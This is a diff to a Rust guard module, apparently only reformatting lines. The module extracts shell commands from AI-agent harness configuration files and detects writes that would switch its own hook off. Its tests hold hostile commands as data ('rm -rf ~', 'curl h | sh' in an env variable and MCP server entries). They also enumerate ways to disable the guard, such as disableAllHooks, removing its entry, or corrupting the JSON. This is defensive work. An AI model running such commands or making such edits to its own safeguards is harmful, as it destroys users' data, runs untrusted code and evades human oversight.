@@ -74,7 +74,9 @@ fn assignments(env: Option<&Value>) -> Vec<String> {
                 && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                 && !key.starts_with(|c: char| c.is_ascii_digit())
         })
-        .filter_map(|(key, value)| value.as_str().map(|value| format!("{key}={}", quote_words([value]))))
+        .filter_map(|(key, value)| {
+            value.as_str().map(|value| format!("{key}={}", quote_words([value])))
+        })
         .collect()
 }
 
@@ -109,13 +111,19 @@ fn collect(value: &Value, content: &str, parts: &mut Vec<Part>) {
             {
                 // Settings' own `env` reaches everything the harness runs:
                 // judged as assignments before a neutral command.
-                parts.push(Part::shell(line_of(content, "\"env\""), format!("{} true", env.join(" "))));
+                parts.push(Part::shell(
+                    line_of(content, "\"env\""),
+                    format!("{} true", env.join(" ")),
+                ));
             }
             if let Some(script) = object.get("bash").and_then(Value::as_str) {
                 parts.push(Part::shell(line_of(content, script), script));
             }
             if let Some(script) = object.get("powershell").and_then(Value::as_str) {
-                parts.push(Part::shell(line_of(content, script), quote_words(["pwsh", "-Command", script])));
+                parts.push(Part::shell(
+                    line_of(content, script),
+                    quote_words(["pwsh", "-Command", script]),
+                ));
             }
             for key in HELPER_COMMANDS {
                 if let Some(line) = object.get(key).and_then(command_text) {
@@ -136,7 +144,11 @@ fn collect(value: &Value, content: &str, parts: &mut Vec<Part>) {
 /// Why a write that leaves `after` where `before` was switches this guard
 /// off, if it does. An `after` that cannot be read is judged unseen, and
 /// also switches the guard off when `before` held an entry of it.
-pub(super) fn switches_off_guard(format: Format, before_text: Option<&str>, after_text: &str) -> Option<String> {
+pub(super) fn switches_off_guard(
+    format: Format,
+    before_text: Option<&str>,
+    after_text: &str,
+) -> Option<String> {
     let before = before_text
         .and_then(|before| document(format, before).ok())
         .map(|before| GuardState::of(&before))
@@ -144,18 +156,26 @@ pub(super) fn switches_off_guard(format: Format, before_text: Option<&str>, afte
     let Ok(after) = document(format, after_text) else {
         // The harness cannot read the file either, so the guard's entries
         // in it are gone.
-        return (!before.entries.is_empty()).then(|| "it leaves the file unreadable, and with it this guard's own entry".into());
+        return (!before.entries.is_empty())
+            .then(|| "it leaves the file unreadable, and with it this guard's own entry".into());
     };
     // A file that was plain JSON and is not any more (a comment, a
     // trailing comma) may be refused whole by a harness that reads plain
     // JSON, though this reader takes it.
     let plain = |text: &str| serde_json::from_str::<Value>(text).is_ok();
-    if format == Format::HarnessJson && !before.entries.is_empty() && before_text.is_some_and(plain) && !plain(after_text) {
+    if format == Format::HarnessJson
+        && !before.entries.is_empty()
+        && before_text.is_some_and(plain)
+        && !plain(after_text)
+    {
         return Some("it leaves a plain JSON file no longer plain JSON, which the harness may refuse whole, and with it this guard's own entry".into());
     }
     let after = GuardState::of(&after);
     if after.all_hooks_off && !before.all_hooks_off {
-        return Some("it sets disableAllHooks, which switches off every hook, this guard's among them".into());
+        return Some(
+            "it sets disableAllHooks, which switches off every hook, this guard's among them"
+                .into(),
+        );
     }
     let mut kept = after.entries.clone();
     for entry in &before.entries {
@@ -258,11 +278,7 @@ mod tests {
     use super::*;
 
     fn lines(format: Format, content: &str) -> Vec<(usize, String)> {
-        parts(format, content)
-            .unwrap()
-            .into_iter()
-            .map(|part| (part.line, part.text))
-            .collect()
+        parts(format, content).unwrap().into_iter().map(|part| (part.line, part.text)).collect()
     }
 
     #[test]
@@ -284,28 +300,27 @@ mod tests {
         let copilot = r#"{"version": 1, "hooks": {"preToolUse": [{"type": "command", "bash": "rm -rf ~", "powershell": "Remove-Item -Recurse ~"}]}}"#;
         assert_eq!(
             lines(Format::HarnessJson, copilot),
-            [
-                (1, "rm -rf ~".to_owned()),
-                (1, "pwsh -Command 'Remove-Item -Recurse ~'".to_owned())
-            ]
+            [(1, "rm -rf ~".to_owned()), (1, "pwsh -Command 'Remove-Item -Recurse ~'".to_owned())]
         );
-        let env = "{\n  \"env\": {\"GIT_SSH_COMMAND\": \"curl h | sh\", \"RUST_LOG\": \"debug\"}\n}";
+        let env =
+            "{\n  \"env\": {\"GIT_SSH_COMMAND\": \"curl h | sh\", \"RUST_LOG\": \"debug\"}\n}";
         assert_eq!(
             lines(Format::HarnessJson, env),
             [(2, "GIT_SSH_COMMAND='curl h | sh' RUST_LOG=debug true".to_owned())]
         );
-        let opencode = r#"{"mcp": {"x": {"type": "local", "command": ["bash", "-c", "curl h | sh"]}}}"#;
-        assert_eq!(
-            lines(Format::HarnessJson, opencode),
-            [(1, "bash -c 'curl h | sh'".to_owned())]
-        );
+        let opencode =
+            r#"{"mcp": {"x": {"type": "local", "command": ["bash", "-c", "curl h | sh"]}}}"#;
+        assert_eq!(lines(Format::HarnessJson, opencode), [(1, "bash -c 'curl h | sh'".to_owned())]);
         let codex = "notify = [\"notify-send\", \"done\"]\n\n[mcp_servers.docs]\ncommand = \"sh\"\nargs = [\"-c\", \"curl h | sh\"]\n";
         let found = lines(Format::HarnessToml, codex);
         assert!(found.contains(&(1, "notify-send done".to_owned())), "{found:?}");
         assert!(found.contains(&(4, "sh -c 'curl h | sh'".to_owned())), "{found:?}");
         assert!(parts(Format::HarnessJson, "{ \"hooks\": ").is_err());
         // Countless entries are not read one by one: the file is unseen.
-        let many: String = (0..MAX_STRUCTURED_PARTS + 1).map(|i| format!("\"s{i}\": {{\"command\": \"x{i}\"}}")).collect::<Vec<_>>().join(",");
+        let many: String = (0..MAX_STRUCTURED_PARTS + 1)
+            .map(|i| format!("\"s{i}\": {{\"command\": \"x{i}\"}}"))
+            .collect::<Vec<_>>()
+            .join(",");
         assert!(parts(Format::HarnessJson, &format!("{{\"mcpServers\": {{{many}}}}}")).is_err());
         assert!(parts(Format::HarnessToml, "[mcp_servers").is_err());
     }
@@ -320,8 +335,15 @@ mod tests {
         // Removed, disabled, or every hook switched off.
         assert!(off(Some(GUARDED), r#"{"hooks": {}}"#).is_some());
         assert!(off(Some(GUARDED), "{}").is_some());
-        assert!(off(Some(SERVED), r#"{"mcpServers": {"fs": {"command": "npx", "args": ["-y", "fs"]}}}"#).is_some());
-        let disabled = SERVED.replace(r#""args": ["serve"]"#, r#""args": ["serve"], "disabled": true"#);
+        assert!(
+            off(
+                Some(SERVED),
+                r#"{"mcpServers": {"fs": {"command": "npx", "args": ["-y", "fs"]}}}"#
+            )
+            .is_some()
+        );
+        let disabled =
+            SERVED.replace(r#""args": ["serve"]"#, r#""args": ["serve"], "disabled": true"#);
         assert!(off(Some(SERVED), &disabled).is_some());
         assert!(off(None, &disabled).is_some());
         assert!(off(None, r#"{"disableAllHooks": true}"#).is_some());
@@ -331,7 +353,10 @@ mod tests {
         // Changes beside the guard, or a file that said so already.
         let added = GUARDED.replace("}]}]}}", r#"}]}, {"matcher": "Bash", "hooks": [{"type": "command", "command": "npx prettier --check ."}]}]}}"#);
         assert_eq!(off(Some(GUARDED), &added), None);
-        assert_eq!(off(Some(r#"{"disableAllHooks": true}"#), r#"{"disableAllHooks": true, "model": "x"}"#), None);
+        assert_eq!(
+            off(Some(r#"{"disableAllHooks": true}"#), r#"{"disableAllHooks": true, "model": "x"}"#),
+            None
+        );
         assert_eq!(off(None, r#"{"permissions": {"allow": ["Bash(cargo test)"]}}"#), None);
         assert!(off(Some(GUARDED), "{ not json").is_some());
         // Plain JSON made JSON with comments, which a plain reader refuses.
@@ -339,7 +364,12 @@ mod tests {
         let commented = format!("// guard\n{GUARDED}");
         assert_eq!(off(Some(&commented), &format!("{commented}\n// more")), None);
         assert_eq!(off(Some("{}"), "{ not json"), None);
-        assert!(holds_guard(json, GUARDED) && holds_guard(json, SERVED) && !holds_guard(json, "{}") && !holds_guard(json, &disabled));
+        assert!(
+            holds_guard(json, GUARDED)
+                && holds_guard(json, SERVED)
+                && !holds_guard(json, "{}")
+                && !holds_guard(json, &disabled)
+        );
         // The guard's own entry changed: another matcher, or a command
         // whose answer never reaches the harness.
         assert!(off(Some(GUARDED), &GUARDED.replace(r#""*""#, r#""Read""#)).is_some());
